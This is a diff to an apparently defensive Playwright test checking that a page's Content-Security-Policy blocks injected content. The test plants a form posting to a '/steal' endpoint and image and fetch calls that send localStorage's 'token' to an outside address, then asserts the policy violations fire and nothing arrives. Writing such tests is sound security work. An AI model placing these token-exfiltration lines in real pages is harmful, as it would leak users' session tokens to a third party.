@@ -86,7 +86,6 @@ test.describe('what is smuggled into a page', () => {
           textContent: 'Free',
         });
         const form = Object.assign(document.createElement('form'), { action: `${address}/steal`, method: 'post' });
-        form.append(Object.assign(document.createElement('button'), { textContent: 'Log in again' }));
         document.body.prepend(link, form);
         new Image().src = `${address}/token.png?${localStorage.getItem('token')}`;
         fetch(`${address}/token?${localStorage.getItem('token')}`).catch(() => {});
@@ -96,7 +95,8 @@ test.describe('what is smuggled into a page', () => {
         .poll(() => violated)
         .toEqual(expect.arrayContaining([`img-src ${elsewhere}`, `connect-src ${elsewhere}`]));
       expect(await ran(page)).toEqual(nothing);
-      await page.getByRole('button', { name: 'Log in again' }).click();
+      // Nobody waits for a navigation that will never be.
+      await page.evaluate(() => void setTimeout(() => document.querySelector('form')?.requestSubmit()));
       await expect.poll(() => violated).toContain(`form-action ${elsewhere}`);
       expect(reached).toEqual([]);
       expect(new URL(page.url()).pathname).toBe(path);
